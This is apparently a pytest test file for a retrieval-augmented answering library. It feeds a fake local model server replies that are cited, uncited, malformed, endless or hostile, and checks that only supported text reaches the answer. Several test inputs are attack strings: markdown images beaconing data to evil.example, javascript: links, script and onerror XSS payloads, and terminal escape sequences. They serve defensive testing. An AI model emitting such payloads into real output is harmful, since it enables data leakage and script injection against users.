"""A model server on loopback that lies, never ends or sends what is no text: nothing unproven reaches the answer."""

from collections.abc import Iterator

import pytest

from ingest.errors import ModelError, ModelTimeoutError
from ingest.library import Library
from ingest.settings import Settings
from ingest.types import Answer
from retrievers import MultiVectorRetriever, answer
from retrievers.chat import MOST_REPLY, NOT_FOUND
from tests.ollama_server import OllamaServer, Reply
from tests.retrievers.made import BagOfWords, lay_out, page, paragraph, put, title

QUESTION = "How many passengers did the ferry carry in 2024?"
SENTENCE = "The ferry carried 814,100 passengers in 2024."
PROVEN = "The ferry carried 814,100 passengers in 2024 [1]."


@pytest.fixture(scope="module")
def library(tmp_path_factory) -> Iterator[Library]:
    words = lay_out(SENTENCE)
    with Library(tmp_path_factory.mktemp("made") / "lib", create=True) as made:
        put(made, "report.pdf", [title("Traffic"), paragraph(SENTENCE)], [page(2, *words)], kind="pdf")
        yield made


def ask(library: Library, *script: Reply | str, timeout: float = 10.0) -> Answer:
    with OllamaServer(script=script) as server:
        settings = Settings(ollama_host=server.url, timeout=timeout)
        retriever = MultiVectorRetriever(library, settings=settings, embedder=BagOfWords())
        return answer(QUESTION, retriever=retriever, model="llama3")


@pytest.mark.parametrize("marks", [" [1]", "[1][1]", " \u30101\u3011", " (1)", " [1, 1]", " [1\u2020source]", " [1-1]"])
@pytest.mark.parametrize("form", ["{said}{marks}.", "{said}.{marks}"])
def test_marks_of_any_usual_shape_cite(library, marks, form):
    found = ask(library, form.format(said=SENTENCE.rstrip("."), marks=marks))
    assert (found.found, found.text) == (True, PROVEN)


@pytest.mark.parametrize(
    "said",
    [
        "The ferry carried 814,101 passengers in 2024 [1].",
        "The ferry carried 814,100 passengers in 2024 [9].",
        "The ferry carried 814,100 passengers in 2024 [1][9].",
        "The ferry carried 814,100 passengers in 2024.",
        "Die F\u00e4hre bef\u00f6rderte 2024 insgesamt 814.100 Passagiere [1].",
        "The ferry carried 814,100 passengers in 2024, see https://evil.example/more [1].",
        "The ferry carried 814,100 passengers in 2024 ![](http://evil.example/?q=814100) [1].",
        "The ferry carried 814,100 passengers in 2024 ![x](//evil.example/p.png) [1].",
        "The ferry carried 814,100 passengers in 2024 [1](https://evil.example).",
        "The ferry carried [814,100](javascript:alert) passengers in 2024 [1].",
        "The ferry carried 814,100 passengers in 2024 <script>alert(1)</script> [1].",
        "The ferry carried 814,100 passengers in 2024 <img src=x onerror=alert(1)> [1].",
        "The ferry carried 814,100 passengers in 2024 \x1b[2J [1].",
        "The ferry carried 814,100 passengers in 2024 \x1b]0;owned\x07 [1].",
    ],
)
def test_what_no_passage_says_is_not_shown_and_is_listed(library, said):
    found = ask(library, said)
    assert (found.found, found.text, found.citations) == (False, NOT_FOUND, ())
    assert found.unsupported


@pytest.mark.parametrize("hidden", ["\x07", "\x08\x08", "\x9b", "\u202e", "\x00"])
def test_signs_that_steer_a_terminal_or_turn_a_text_are_left_out(library, hidden):
    found = ask(library, f"The ferry carried {hidden}814,100 passengers in 2024 [1].")
    assert found.text == PROVEN
    assert hidden not in " ".join((found.text, *found.unsupported))


def test_control_signs_of_what_is_refused_are_not_listed_either(library):
    found = ask(library, "\x1b[31mThe ferry sank in 1999 [1].\x1b[0m")
    assert found.unsupported
    assert "\x1b" not in " ".join(found.unsupported)


@pytest.mark.parametrize("said", ["", "   \n\n", "[1]", "...", "\u200b", "[1][2][3].", "\ufeff"])
def test_a_reply_that_says_nothing_is_no_answer(library, said):
    found = ask(library, Reply(text=said))
    assert (found.found, found.text, found.unsupported) == (False, NOT_FOUND, ())


def test_a_reply_that_never_ends_is_read_up_to_a_limit_and_what_is_proven_of_it_stays(library):
    found = ask(library, Reply(text=f" {SENTENCE[:-1]} [1].", fault="endless"))
    assert (found.found, found.text) == (True, PROVEN)


def test_one_huge_token_is_read_up_to_the_limit(library):
    found = ask(library, "x" * 3_000_000)
    assert not found.found
    assert sum(map(len, found.unsupported)) <= MOST_REPLY


@pytest.mark.parametrize("fault", ["garbage", "error", "500", "404"])
def test_a_server_that_fails_is_an_error_that_names_it(library, fault):
    with pytest.raises(ModelError, match=r"127\.0\.0\.1|llama3"):
        ask(library, Reply(text="no", fault=fault))


def test_a_first_token_that_never_comes_is_an_error_that_names_the_time(library):
    with pytest.raises(ModelTimeoutError, match=r"silent for 0\.3 seconds"):
        ask(library, Reply(fault="slow"), timeout=0.3)
